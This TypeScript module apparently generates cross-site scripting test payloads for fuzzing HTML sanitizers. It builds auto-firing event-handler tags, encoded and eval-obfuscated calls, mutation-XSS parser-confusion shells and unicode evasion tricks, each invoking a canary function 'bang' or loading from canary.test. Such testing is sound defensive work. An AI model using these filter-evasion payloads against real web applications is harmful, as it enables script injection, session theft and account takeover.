/** Markup that runs: tags with handlers, written as parsers are known to forgive; encodings; markup that changes when it is parsed twice. */
import type { Family } from './payloads.ts';

const at = <Item>(items: readonly Item[], index: number): Item => items[index % items.length]!;

/** Tags whose named event fires without anybody doing anything. */
const ALONE: readonly [string, string][] = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['iframe', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a tabindex=0 autofocus', 'onfocus'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['marquee', 'onstart'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['input type=image src=x', 'onerror'],
  ['video poster=x src=x', 'onerror'],
  ['img srcset=x', 'onerror'],
];
const TAGS = [
  'a',
  'b',
  'p',
  'div',
  'span',
  'td',
  'form',
  'label',
  'math',
  'x-y',
  'article',
  'dialog',
  'summary',
  'font',
  'xss',
  'progress',
  'ruby',
  'summary',
];
const EVENTS = (
  'onclick ondblclick onmousedown onmouseup onmouseover onmouseout onmousemove onmouseenter onmouseleave onpointerdown onpointerup onpointerenter onpointerover ' +
  'onpointermove onpointercancel ongotpointercapture onkeydown onkeyup onkeypress onfocus onfocusin onblur onfocusout oninput onbeforeinput onchange oncopy oncut ' +
  'onpaste ondrag ondragstart ondragenter ondrop onwheel onscroll oncontextmenu onauxclick onanimationstart onanimationend ontransitionend onselectstart ontouchstart ' +
  'onbeforetoggle onsubmit onreset oninvalid'
).split(' ');
const GAPS = [' ', '/', '\t', '\n', '\f', '\r', '//', ' / '];
const ENDS = ['>', '/>', ' >', '//>', ' x>', '\n>'];

function cased(text: string, index: number): string {
  if (index % 3 === 0) return text;
  if (index % 3 === 1) return text.toUpperCase();
  return [...text].map((letter, place) => (place % 2 === 0 ? letter.toUpperCase() : letter)).join('');
}

function quoted(code: string, index: number): string {
  return at([code, `"${code}"`, `'${code}'`, ` "${code}"`, `\n${code}`], index);
}

/** The same call, written in ways that a search for its name does not find. */
const CALLS: readonly ((id: number) => string)[] = [
  (id) => `bang(${id})`,
  (id) => `bang\`${id}\``,
  (id) => `top.bang(${id})`,
  (id) => `(bang)(${id})`,
  (id) => `self['bang'](${id})`,
  (id) => `bang.call(0,${id})`,
  (id) => `[${id}].map(bang)`,
  (id) => `void bang(${id})`,
];

export const HANDLERS: Family = {
  name: 'handlers',
  count: ALONE.length * 14 + TAGS.length * 46,
  make(id, index) {
    const alone = ALONE.length * 14;
    const variant = Math.floor(index / (index < alone ? ALONE.length : TAGS.length));
    const call = quoted(at(CALLS, index < alone ? variant : index)(id), variant);
    if (index < alone) {
      const [tag, event] = at(ALONE, index);
      return `<${tag}${at(GAPS, variant)}${cased(event, variant)}=${call}${at(ENDS, index + variant)}`;
    }
    const other = index - alone;
    return `<${cased(at(TAGS, other), variant)}${at(GAPS, other)}${at(EVENTS, Math.floor(other / TAGS.length))}=${call}${at(ENDS, other)}x`;
  },
};

const decimal = (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');
const hexadecimal = (text: string) => [...text].map((letter) => `&#x${letter.codePointAt(0)!.toString(16)};`).join('');
const padded = (text: string) => [...text].map((letter) => `&#0000${letter.codePointAt(0)}`).join('');
const escaped = (name: string) => `\\u${name.codePointAt(0)!.toString(16).padStart(4, '0')}${name.slice(1)}`;

const ENCODINGS: readonly ((id: number) => string)[] = [
  (id) => decimal(`bang(${id})`),
  (id) => hexadecimal(`bang(${id})`),
  (id) => padded(`bang(${id})`),
  (id) => `${escaped('bang')}(${id})`,
  (id) => `eval(atob('${btoa(`bang(${id})`)}'))`,
  (id) => `Function('bang(${id})')()`,
  (id) => `setTimeout('bang(${id})')`,
  (id) => `eval(String.fromCharCode(${[...`bang(${id})`].map((letter) => letter.charCodeAt(0)).join()}))`,
  (id) => `bang&lpar;${id}&rpar;`,
  (id) => `bang&#40;${id}&#41;`,
  (id) => `self[&apos;ba&apos;+&apos;ng&apos;](${id})`,
  (id) => `\\u0062ang(${id})`,
  (id) => `import('data:text/javascript,bang(${id})')`,
  (id) => `location='javascript:bang(${id})'`,
];
const CARRIERS: readonly ((code: string) => string)[] = [
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<svg onload="${code}">`,
  (code) => `<details open ontoggle="${code}">`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<iframe srcdoc='<script>${code.replaceAll("'", '&apos;')}</script>'></iframe>`,
  (code) => `<body onload="${code}">`,
  (code) => `<script>${code}</script>`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<audio src=x onerror="${code}">`,
];

export const ENCODED: Family = {
  name: 'encodings',
  count: ENCODINGS.length * CARRIERS.length,
  make: (id, index) => at(CARRIERS, Math.floor(index / ENCODINGS.length))(at(ENCODINGS, index)(id)),
};

/** Harmless as it stands, and not once it is parsed, written and parsed again. */
const SHELLS: readonly ((inner: string) => string)[] = [
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<svg></p><style><a id="</style>${inner}">`,
  (inner) => `<svg><title><style><![CDATA[</style>${inner}]]></title></svg>`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<table><td>${inner}<table>`,
  (inner) => `<select><option>${inner}</select>`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<xmp><p title="</xmp>${inner}">`,
  (inner) => `<noembed><p title="</noembed>${inner}">`,
  (inner) => `<textarea><p title="</textarea>${inner}">`,
  (inner) => `<title><p title="</title>${inner}">`,
  (inner) => `<style><p title="</style>${inner}">`,
  (inner) => `<iframe><p title="</iframe>${inner}">`,
  (inner) => `<!--><p>${inner}-->`,
  (inner) => `<!--a--!>${inner}`,
  (inner) => `<![CDATA[${inner}]]>`,
  (inner) => `<?x ${inner} ?>`,
  (inner) => `</br ${inner}>${inner}`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<svg><desc>${inner}</desc></svg>`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner) => `<a href="x"><a>${inner}</a></a>`,
  (inner) => `<p><!DOCTYPE html>${inner}`,
];
const INNER: readonly ((id: number) => string)[] = [
  (id) => `<img src=x onerror=bang(${id})>`,
  (id) => `<svg onload=bang(${id})>`,
  (id) => `<script>bang(${id})</script>`,
  (id) => `<img src=//canary.test/${id}>`,
  (id) => `<details open ontoggle=bang(${id})>`,
  (id) => `<iframe src=javascript:bang(${id})></iframe>`,
  (id) => `<video><source onerror=bang(${id})>`,
  (id) => `<input onfocus=bang(${id}) autofocus>`,
];

export const MUTATIONS: Family = {
  name: 'mutations',
  count: SHELLS.length * INNER.length,
  make: (id, index) => at(SHELLS, Math.floor(index / INNER.length))(at(INNER, index)(id)),
};

/** Letters that some part on the way may take for others. */
const TRICKS: readonly ((markup: string) => string)[] = [
  (markup) => `\u202e${markup}\u202c`,
  (markup) => markup.replace('<', '<\u200b'),
  (markup) => markup.replace('<', '\ufeff<'),
  (markup) => markup.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (markup) => markup.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll('<', '&amp;lt;'),
  (markup) => markup.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (markup) => markup.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (markup) => markup.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (markup) => markup.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (markup) => markup.replaceAll(' ', '\u00a0'),
  (markup) => markup.replaceAll(' ', '\u3000'),
  (markup) => `\u2066${markup}\u2069\u061c`,
  (markup) => markup.replace(/^<(\w)/, '<$1\u0301'),
  (markup) => `${markup.slice(0, 1)}\u00ad${markup.slice(1)}`,
];

export const UNICODE: Family = {
  name: 'letters',
  count: TRICKS.length * INNER.length,
  make: (id, index) => at(TRICKS, Math.floor(index / INNER.length))(at(INNER, index)(id)),
};
